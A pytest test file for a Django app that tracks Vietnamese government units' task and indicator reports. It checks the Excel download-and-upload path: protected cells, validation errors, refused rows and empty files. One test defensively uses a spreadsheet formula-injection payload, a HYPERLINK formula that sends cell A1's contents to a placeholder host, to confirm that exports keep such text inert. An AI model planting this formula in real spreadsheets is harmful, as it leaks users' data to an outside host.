"""The offline path: download the unit's form, fill it, upload it back; a file with
bad rows saves nothing and lists every bad row and cell."""

import datetime as dt
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from theodoi.tracking import selectors, services, xlsx
from theodoi.tracking.models import ChangeLog


@pytest.fixture
def economy(units):
    return units["Phòng Kinh tế"]


def _download(client, period, unit):
    response = client.get(reverse("tracking:report-xlsx", args=[period.pk, unit.pk]))
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def _upload(client, period, unit, wb):
    out = io.BytesIO()
    wb.save(out)
    upload = SimpleUploadedFile("bao-cao.xlsx", out.getvalue())
    return client.post(
        reverse("tracking:report-upload", args=[period.pk, unit.pk]), {"file": upload}
    )


def test_form_protects_what_is_not_the_units(cast, period, economy, login):
    wb = _download(login(cast.focal_point), period, economy)
    tasks = wb[xlsx.TASK_SHEET]
    assert tasks.protection.sheet
    assert tasks.column_dimensions["A"].hidden  # the row ids
    assert [c.value for c in tasks[1]][5] == "Tình trạng"
    assert tasks["C2"].value == "Xây dựng kế hoạch chuyển đổi số của xã"
    assert tasks["C2"].protection.locked and not tasks["F2"].protection.locked
    (validation,) = tasks.data_validations.dataValidation
    assert "Hoàn thành" in validation.formula1 and "F2:F3" in str(validation.sqref)
    indicators = wb[xlsx.INDICATOR_SHEET]
    assert indicators["C3"].value == "Số doanh nghiệp số"
    assert not indicators["F3"].protection.locked


def test_round_trip_saves_every_row(cast, period, economy, login):
    focal = login(cast.focal_point)
    wb = _download(focal, period, economy)
    tasks, indicators = wb[xlsx.TASK_SHEET], wb[xlsx.INDICATOR_SHEET]
    tasks["F2"], tasks["G2"], tasks["H2"] = "Hoàn thành", 100, "Kế hoạch số 5/KH-UBND"
    tasks["I2"] = "15/03/2026"
    tasks["F3"], tasks["G3"] = "Đang thực hiện", "50"
    indicators["F2"], indicators["G2"] = "72,5", "VNPT Hải Phòng"
    indicators["F3"] = 4  # a number typed as a number
    response = _upload(focal, period, economy, wb)
    assert response.status_code == 302
    report = selectors.unit_report(period, economy)
    done = report.tasks.get(task__code="1")
    assert (done.progress, done.percent, done.completed_on) == ("done", 100, dt.date(2026, 3, 15))
    assert report.tasks.get(task__code="2").percent == 50
    share = report.indicators.get(indicator__code="1")
    assert (str(share.value.normalize()), share.source) == ("72.5", "VNPT Hải Phòng")
    assert report.indicators.get(indicator__code="2").value == 4
    assert ChangeLog.objects.filter(unit_report=report).count() >= 6

    # Uploading the same file again changes nothing and logs nothing more.
    before = ChangeLog.objects.count()
    _upload(focal, period, economy, wb)
    assert ChangeLog.objects.count() == before


def test_a_file_with_bad_rows_saves_nothing_and_lists_every_one(cast, period, economy, login):
    focal = login(cast.focal_point)
    wb = _download(focal, period, economy)
    tasks, indicators = wb[xlsx.TASK_SHEET], wb[xlsx.INDICATOR_SHEET]
    tasks["F2"], tasks["I2"] = "Hoàn thành", ""  # done without a date
    tasks["F3"], tasks["G3"] = "Đang thực hiện", 150  # percent out of range
    tasks["H3"] = "Tuyên truyền trên loa"  # a good cell in a bad row: not saved either
    indicators["F2"] = "120"  # a percentage above 100
    indicators["F3"] = "nhiều"  # text where a number is expected
    response = _upload(focal, period, economy, wb)
    assert response.status_code == 400
    page = response.content.decode()
    assert "Tệp có 4 lỗi — chưa lưu gì" in page
    problems = response.context["problems"]
    assert [(p.sheet, p.row, p.column) for p in problems] == [
        ("Nhiệm vụ", 2, "Ngày hoàn thành"),
        ("Nhiệm vụ", 3, "Tỷ lệ hoàn thành (%)"),
        ("Chỉ tiêu", 2, "Giá trị kỳ này"),
        ("Chỉ tiêu", 3, "Giá trị kỳ này"),
    ]
    assert "0–100" in problems[1].reason and "phải là số" in problems[3].reason
    report = selectors.unit_report(period, economy)
    assert set(report.tasks.values_list("progress", flat=True)) == {"not_started"}
    assert not report.tasks.exclude(done_text="").exists()
    assert not report.indicators.exclude(value=None).exists()
    assert not ChangeLog.objects.exists()


def test_foreign_or_unknown_rows_are_refused(cast, period, economy, units, login):
    other = selectors.unit_report(period, units["Phòng Văn hóa - Xã hội"])
    focal = login(cast.focal_point)
    wb = _download(focal, period, economy)
    tasks = wb[xlsx.TASK_SHEET]
    tasks["A2"] = other.tasks.get().pk  # a row of another unit's report
    tasks["F3"] = "Xong rồi"  # not in the list
    response = _upload(focal, period, economy, wb)
    assert response.status_code == 400
    reasons = [(p.row, p.column) for p in response.context["problems"]]
    assert reasons == [(2, "Mã dòng"), (3, "Tình trạng")]


def test_not_an_excel_file(cast, period, economy, login):
    upload = SimpleUploadedFile("bao-cao.xlsx", b"not a zip")
    response = login(cast.focal_point).post(
        reverse("tracking:report-upload", args=[period.pk, economy.pk]), {"file": upload}
    )
    assert response.status_code == 400
    assert "không đọc được" in response.content.decode()


def test_a_refused_date_is_reported_in_its_own_column(cast, period, economy, login):
    focal = login(cast.focal_point)
    wb = _download(focal, period, economy)
    tasks = wb[xlsx.TASK_SHEET]
    tasks["F2"], tasks["I2"] = "Hoàn thành", "01/01/2999"  # in the future
    response = _upload(focal, period, economy, wb)
    (problem,) = response.context["problems"]
    assert (problem.row, problem.column) == (2, "Ngày hoàn thành")
    assert problem.reason == "Ngày hoàn thành không được ở tương lai"


def test_text_that_looks_like_a_formula_stays_text_both_ways(cast, period, economy, login):
    """A plan's indicator named "=HYPERLINK(…)" or a source "+84 …" reaches Excel as
    text, and the same file uploaded back changes nothing."""
    hostile = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")'
    report = selectors.unit_report(period, economy)
    value = report.indicators.get(indicator__code="1")
    value.indicator.name = hostile
    value.indicator.save()
    services.indicator_value_save(
        indicator_value=value,
        user=cast.focal_point,
        expected_version=1,
        value_text="3,5",
        source="+84 912 345 678",
    )
    focal = login(cast.focal_point)
    wb = _download(focal, period, economy)
    name, source = wb[xlsx.INDICATOR_SHEET]["C2"], wb[xlsx.INDICATOR_SHEET]["G2"]
    assert (name.data_type, name.value) == ("s", hostile)
    assert (source.data_type, source.value) == ("s", "+84 912 345 678")
    before = ChangeLog.objects.count()
    assert _upload(focal, period, economy, wb).status_code == 302
    assert ChangeLog.objects.count() == before


def test_an_empty_file_is_named_as_empty_not_as_missing(cast, period, economy, login):
    focal = login(cast.focal_point)
    url = reverse("tracking:report-upload", args=[period.pk, economy.pk])
    page = focal.post(url, {"file": SimpleUploadedFile("bao-cao.xlsx", b"")}, follow=True)
    assert "Tệp “bao-cao.xlsx” rỗng (0 byte)" in page.content.decode()
    page = focal.post(url, {}, follow=True)
    assert "Hãy chọn tệp biểu mẫu .xlsx đã điền." in page.content.decode()
